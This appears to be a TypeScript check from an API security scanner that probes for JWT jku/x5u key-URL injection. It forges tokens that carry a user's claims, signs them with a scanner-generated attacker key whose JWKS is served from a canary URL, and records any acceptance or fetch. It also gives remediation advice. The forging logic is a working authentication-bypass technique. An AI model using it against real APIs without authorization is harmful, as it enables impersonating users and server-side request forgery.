import type { Canary } from '../canary/canary.js';
import type { FindingDraft } from '../check-context.js';
import { defineCheck } from '../define-check.js';
import { replaceJwt } from '../identities/apply-credentials.js';
import { createAttackerKey } from '../jwt/create-attacker-key.js';
import { encodeSignedJwt } from '../jwt/encode-signed-jwt.js';
import { selectForgeryProbes } from '../jwt/select-forgery-probes.js';
import { locateRequest } from '../locate-request.js';

/** How long to wait for the target to fetch a key URL it may fetch after answering. */
const FETCH_WAIT_MS = 500;

export const api2JwtKeyUrlInjection = defineCheck({
  id: 'api2-jwt-key-url-injection',
  title: 'JWT verified with keys fetched from a URL in its own header (jku / x5u)',
  severity: 'critical',
  owasp: 'API2',
  cwe: 347,
  maxRequests: 20,
  description:
    "The identity's own claims are signed with a key pair generated for this scan and sent twice: with `jku` " +
    "(RFC 7515 section 4.1.2) pointing at the scan's canary, which serves a JWK Set holding the scanner's " +
    'public key, and with `x5u` pointing at the canary. Accepting the jku token means anyone can sign tokens ' +
    'the API trusts (critical); a fetch of either URL recorded by the canary proves the API follows key URLs ' +
    'from untrusted tokens even when it then refused the token (high: server-side request forgery and one ' +
    'step from key injection). Needs the canary.',
  remediation:
    'Never fetch keys from a URL a token names: configure the JWKS URL of each trusted issuer yourself and ' +
    'reject tokens whose jku or x5u is not exactly that URL (RFC 8725 section 3.10).',
  async run(ctx) {
    const canary = ctx.canary;
    if (canary === undefined) return;
    try {
      for (const probe of await selectForgeryProbes(ctx, ['rsa', 'ec', 'hmac'])) {
        const ownKid = probe.decoded.header['kid'];
        const jkuToken = canary.token('jku');
        const x5uToken = canary.token('x5u');
        const attacker = await createAttackerKey(
          probe.family === 'ec' ? 'ec' : 'rsa',
          typeof ownKid === 'string' ? ownKid : jkuToken,
        );
        canary.answerUpstream({ kind: 'json', body: { keys: [attacker.publicJwk] } });
        const header: Record<string, unknown> = { ...probe.decoded.header };
        for (const name of ['jwk', 'jku', 'x5u', 'x5c', 'x5t', 'x5t#S256']) delete header[name];
        const forge = (extra: Record<string, string>) =>
          replaceJwt(
            probe.credentials,
            probe.jwt,
            encodeSignedJwt(
              { ...header, alg: attacker.alg, kid: attacker.kid, ...extra },
              probe.decoded.payload,
              attacker.privateKey,
            ),
          );
        const jkuUrl = canary.upstreamFor(jkuToken);
        const x5uUrl = canary.upstreamFor(x5uToken);
        const jku = forge({ jku: jkuUrl });
        const x5u = forge({ x5u: x5uUrl });
        const mark = canary.mark();
        const jkuResponse = await probe.send(jku);
        const x5uResponse = await probe.send(x5u);
        await canary.waitFor([jkuToken, x5uToken], probe.accepted(jkuResponse) ? 0 : FETCH_WAIT_MS);
        const fetched = canary.hitsSince(mark).filter((h) => h.token === jkuToken || h.token === x5uToken);
        const where = `${probe.request.method} ${new URL(probe.request.url).pathname}`;
        const base = {
          ...locateRequest(ctx.model, ctx.target, probe.request),
          tags: ['jwt', 'header-injection'],
        };
        let draft: FindingDraft | undefined;
        if (probe.accepted(jkuResponse)) {
          draft = {
            ...base,
            message: `a token carrying ${probe.session.name}'s claims, signed with the scanner's own key and naming the scanner's canary as jku, was accepted by ${where}`,
            summary: `the API fetched ${fetched.length > 0 ? 'the canary key set' : 'keys'} from the token's jku and accepted the forged ${attacker.alg} token with ${jkuResponse.status}, while a wrong signature got ${probe.control.status}`,
            oracle: 'jku-forged-token-accepted',
            confidence: 'certain',
            snippet: `header: {"alg":"${attacker.alg}","kid":${JSON.stringify(attacker.kid)},"jku":"${jkuUrl}"}`,
            responses: [probe.baseline, probe.control, jkuResponse],
            confirm: async () => probe.acceptedWhileControlRefused(await probe.send(jku)),
          };
        } else if (fetched.length > 0) {
          const names = [...new Set(fetched.map((h) => (h.token === jkuToken ? 'jku' : 'x5u')))];
          const resend = names[0] === 'jku' ? jku : x5u;
          const resendToken = names[0] === 'jku' ? jkuToken : x5uToken;
          draft = {
            ...base,
            severity: 'high',
            message: `${where} fetched the ${names.join(' and ')} URL${names.length > 1 ? 's' : ''} named in a forged token's header (the scanner's canary), though it refused the token`,
            summary: `the canary recorded ${fetched.length} fetch${fetched.length > 1 ? 'es' : ''} from the API (${fetched.map((h) => `${h.method} ${h.url.split('?')[0]}`).join(', ')}) caused by the token header alone`,
            oracle: 'key-url-fetched-by-canary',
            confidence: 'firm',
            snippet: names.map((n) => `${n}: ${n === 'jku' ? jkuUrl : x5uUrl}`).join('; '),
            responses: [probe.baseline, names[0] === 'jku' ? jkuResponse : x5uResponse],
            confirm: async () => {
              const again = canary.mark();
              await probe.send(resend);
              return waitForNewHit(canary, again, resendToken);
            },
          };
        }
        if (draft !== undefined && (await ctx.report(draft))) return;
      }
    } finally {
      canary.answerUpstream({ kind: 'json', body: {} });
    }
  },
});

/** True when a hit carrying `token` arrives after `mark` within {@link FETCH_WAIT_MS} (polled). */
async function waitForNewHit(canary: Canary, mark: number, token: string): Promise<boolean> {
  const deadline = Date.now() + FETCH_WAIT_MS;
  while (canary.hitsSince(mark, token).length === 0) {
    if (Date.now() >= deadline) return false;
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
  return true;
}
